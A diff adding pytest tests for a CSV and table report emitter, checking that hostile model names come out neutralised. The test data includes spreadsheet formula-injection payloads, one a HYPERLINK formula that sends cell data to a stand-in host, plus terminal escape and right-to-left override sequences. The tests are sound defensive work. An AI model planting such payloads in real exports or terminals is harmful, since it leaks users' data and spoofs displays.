@@ -52,3 +52,29 @@ def test_table(capsys: pytest.CaptureFixture[str]) -> None:
     assert any("acme" in line and "12,345" in line and "a, b" in line for line in lines)
     assert any("[red]x" in line and " - " in line for line in lines)
     assert "hidden" not in written.out
+
+
+@pytest.mark.parametrize("name", ["a\rb", "a\nb", 'a"b', "a,b", "é☃", "\u202eevil"])
+def test_csv_of_an_odd_name_is_one_row(name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    emit([{"model": name, "requests": 1}], ["model", "requests"], Format.CSV)
+
+    out = capsys.readouterr().out
+    assert list(csv.reader(io.StringIO(out, newline=""))) == [["model", "requests"], [name, "1"]]
+    assert out.startswith("model,requests\n")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1"])
+def test_csv_of_a_callers_name_is_no_formula(name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    emit([{"model": name, "cost": -1}], ["model", "cost"], Format.CSV)
+
+    read = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert read[1] == [f"'{name}", "-1"]
+
+
+def test_a_table_shows_what_would_move_the_cursor(capsys: pytest.CaptureFixture[str]) -> None:
+    """A caller names its model; the operator's terminal is not the caller's."""
+    emit([{"model": "a\x1b[2J\x9b1m\u202eb", "tags": ["c\x1b"]}], ["model", "tags"], Format.TABLE)
+
+    written = capsys.readouterr().out
+    assert not {"\x1b", "\x9b", "\u202e"} & set(written)
+    assert r"a\x1b[2J\x9b1m\u202eb" in written
